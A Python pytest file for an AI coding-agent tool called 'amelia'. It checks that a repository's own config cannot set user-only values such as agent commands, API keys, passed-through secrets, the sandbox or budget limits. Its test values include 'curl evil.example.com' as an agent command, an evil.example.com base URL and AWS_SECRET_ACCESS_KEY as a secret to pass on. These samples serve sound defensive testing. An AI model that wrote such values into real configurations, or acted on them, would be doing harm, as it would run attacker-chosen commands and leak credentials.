"""What a repository may say, and what is the user's to say."""

from pathlib import Path

import pytest

from amelia.config import load_project, load_settings
from amelia.config.keys import AGENT
from amelia.config.places import users_place
from amelia.config.values import Reader
from amelia.model.agents import AgentSettings, Role
from amelia.model.delivery import Finish
from amelia.model.errors import ConfigError
from amelia.model.policy import BUDGET
from amelia.model.settings import RunSettings, Settings, TddRule
from amelia.model.walls import Network, WallMode, WallSettings

VALUES = {
    "command": '["sh", "-c", "curl evil.example.com"]',
    "resume_command": '["sh", "-c", "curl evil.example.com"]',
    "base_url": '"https://evil.example.com"',
    "key": '"AWS_SECRET_ACCESS_KEY"',
    "passes": '["AWS_SECRET_ACCESS_KEY"]',
    "trusts_repository": "true",
}


@pytest.fixture(autouse=True)
def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own file, in the usual place of a home of its own."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("AMELIA_CONFIG", raising=False)
    file = users_place()
    assert file.is_relative_to(tmp_path / "home")
    assert file.name == "config.toml"
    file.parent.mkdir(parents=True)
    return file


@pytest.fixture
def project(tmp_path: Path) -> Path:
    place = tmp_path / "project"
    (place / ".git").mkdir(parents=True)
    return place


def load(project: Path, own: Path, *, said: str, users: str) -> RunSettings:
    (project / "amelia.toml").write_text(said)
    own.write_text(users)
    return load_settings(project).run


def test_every_value_that_is_refused_is_tried() -> None:
    users_own = {
        key for key, reader in AGENT.readers.items() if isinstance(reader, Reader) and reader.is_users
    }
    assert VALUES.keys() == users_own


def test_a_repository_does_not_say_what_becomes_of_a_branch(project: Path, own: Path) -> None:
    with pytest.raises(ConfigError, match=r"amelia\.toml: finish is not for a repository to decide"):
        load(project, own, said='finish = "pr"', users="")
    assert load(project, own, said="", users='finish = "pr"').finish is Finish.PR


WALL = ('mode = "off"', 'writes = ["/"]', "hides = []", 'network = "full"')


@pytest.mark.parametrize("said", WALL)
def test_a_repository_says_nothing_of_the_wall(project: Path, own: Path, said: str) -> None:
    for table in ("wall", "profiles.loose.wall"):
        with pytest.raises(ConfigError, match=r"amelia\.toml: \S+ is not for a repository to decide"):
            load(project, own, said=f"[{table}]\n{said}", users="")


def test_a_user_says_what_the_wall_lets_through(project: Path, own: Path, tmp_path: Path) -> None:
    said = '[wall]\nmode = "required"\nwrites = ["~/cache", "beside"]\nhides = ["/private"]\nnetwork = "none"'
    found = load(project, own, said="", users=said).wall
    assert found == WallSettings(
        mode=WallMode.REQUIRED,
        writes=(str(tmp_path / "home/cache"), str(own.parent / "beside")),
        hides=("/private",),
        network=Network.NONE,
    )
    with pytest.raises(ConfigError, match="a list of paths"):
        load(project, own, said="", users='[wall]\nwrites = "~/cache"')


@pytest.mark.parametrize("table", ["agents", *(f"agents.{role}" for role in Role)])
@pytest.mark.parametrize("key", VALUES)
@pytest.mark.parametrize("name", ["amelia.toml", "pyproject.toml"])
def test_a_repository_does_not_decide_what_is_the_users_to_say(
    project: Path, own: Path, name: str, key: str, table: str
) -> None:
    prefix = "tool.amelia." if name == "pyproject.toml" else ""
    (project / name).write_text(f"[{prefix}{table}]\n{key} = {VALUES[key]}\n")
    with pytest.raises(ConfigError) as caught:
        load_settings(project)
    assert str(caught.value) == f"{project / name}: {table}.{key} is not for a repository to decide"
    assert caught.value.hint == f"put it into your own settings: {own}"
    (project / name).unlink()
    own.write_text(f"[{table}]\n{key} = {VALUES[key]}\n")
    load_settings(project)


def test_a_repository_may_choose_drivers_and_models_of_roles(project: Path, own: Path) -> None:
    run = load(
        project,
        own,
        said='[agents]\ndriver = "claude"\nmodel = "opus"\nmax_turns = 9\n[agents.reviewer]\ndriver = "codex"\n',
        users='[agents]\ndriver = "claude"\ncommand = "/opt/claude"\nkey = "TEAM_KEY"\npasses = ["GOPATH"]\n',
    )
    passes = ("GOPATH",)
    assert run.agents[Role.DEVELOPER] == AgentSettings(
        driver="claude", model="opus", max_turns=9, command=("/opt/claude",), key="TEAM_KEY", passes=passes
    )
    assert run.agents[Role.REVIEWER] == AgentSettings(driver="codex", passes=passes)


@pytest.mark.parametrize(
    ("users", "model", "key"),
    [
        ('model = "openai:gpt"', "openai:gpt-mini", "TEAM_KEY"),
        ('model = "openai:gpt"', "deepseek:chat", None),
        ("", "deepseek:chat", None),
        ('model = "openai:gpt"\nbase_url = "https://models.example.com"', "deepseek:chat", "TEAM_KEY"),
        ('base_url = "https://models.example.com"', "openai:gpt", "TEAM_KEY"),
    ],
)
def test_a_repository_cannot_send_a_key_to_a_provider_it_was_not_meant_for(
    project: Path, own: Path, users: str, model: str, key: str | None
) -> None:
    users = f'[agents]\ndriver = "api"\nkey = "TEAM_KEY"\n{users}\n'
    agent = load(project, own, said=f'[agents]\nmodel = "{model}"\n', users=users).agents[Role.DEVELOPER]
    assert (agent.model, agent.key) == (model, key)


def test_a_model_of_an_agent_does_not_decide_about_its_key(project: Path, own: Path) -> None:
    users = '[agents]\ndriver = "claude"\nmodel = "opus"\nkey = "TEAM_KEY"\n'
    run = load(project, own, said='[agents]\nmodel = "anthropic.claude-v2:0"\n', users=users)
    assert run.agents[Role.DEVELOPER].key == "TEAM_KEY"


def test_what_a_project_says_outranks_what_the_user_says_and_the_rest_stays(project: Path, own: Path) -> None:
    (project / ".project-config.json").write_text('{"parallel_workers": 4}')
    run = load(
        project,
        own,
        said='tdd = "off"\n[verify]\ntimeout_minutes = 3\n',
        users='tdd = "warn"\nparallel_workers = 2\nenable_phased_execution = false\n[verify]\nsetup = "make"\n',
    )
    assert run.parallel_workers == 4
    assert run.verify.setup == ("make",)
    assert run.verify.timeout.total_seconds() == 180
    plan = load_settings(project).plan
    assert (plan.tdd, plan.enable_phased_execution) == (TddRule.OFF, False)


def test_what_a_project_says_by_itself_is_the_same_for_everybody(project: Path, own: Path) -> None:
    own.write_text('tdd = "warn"\n')
    assert load_project(project) == Settings()
    assert load_settings(project).plan.tdd is TddRule.WARN


@pytest.mark.parametrize(
    ("users", "said", "holds"),
    [
        ("", "500", 500.0),
        ("", '"none"', None),
        ("20", "", 20.0),
        ("20", "5", 5.0),
        ("20", "500", 20.0),
        ("20", '"none"', 20.0),
        ('"none"', "", None),
        ('"none"', "5", 5.0),
        ("500", "", 500.0),
    ],
)
@pytest.mark.parametrize("whose", ["unit", "run"])
def test_a_repository_may_lower_a_bound_of_the_user_and_not_raise_it(
    project: Path, own: Path, *, whose: str, users: str, said: str, holds: float | None
) -> None:
    def budget(bound: str) -> str:
        return f"[budget]\n{whose}_cost = {bound}\n" if bound else ""

    found = load(project, own, said=budget(said), users=budget(users)).budget
    assert getattr(found, whose).cost == holds
    assert getattr(found, whose).tokens == getattr(BUDGET, whose).tokens


def test_tokens_are_bounded_like_money(project: Path, own: Path) -> None:
    run = load(project, own, said="[budget]\nrun_tokens = 9000\n", users="[budget]\nrun_tokens = 1000\n")
    assert run.budget.run.tokens == 1000


def test_another_file_can_be_named_and_has_to_be_there(
    project: Path, own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own.write_text('tdd = "off"\n')
    other = tmp_path / "other.toml"
    monkeypatch.setenv("AMELIA_CONFIG", str(other))
    with pytest.raises(ConfigError, match=r"other\.toml: cannot be read: No such file"):
        load_settings(project)
    other.write_text('tdd = "warn"\n')
    assert load_settings(project).plan.tdd is TddRule.WARN


def test_a_mistake_of_the_users_names_the_users_file(project: Path, own: Path) -> None:
    own.write_text("tddd = 1\n")
    with pytest.raises(ConfigError) as caught:
        load_settings(project)
    assert str(caught.value) == f"{own}: unknown key tddd"
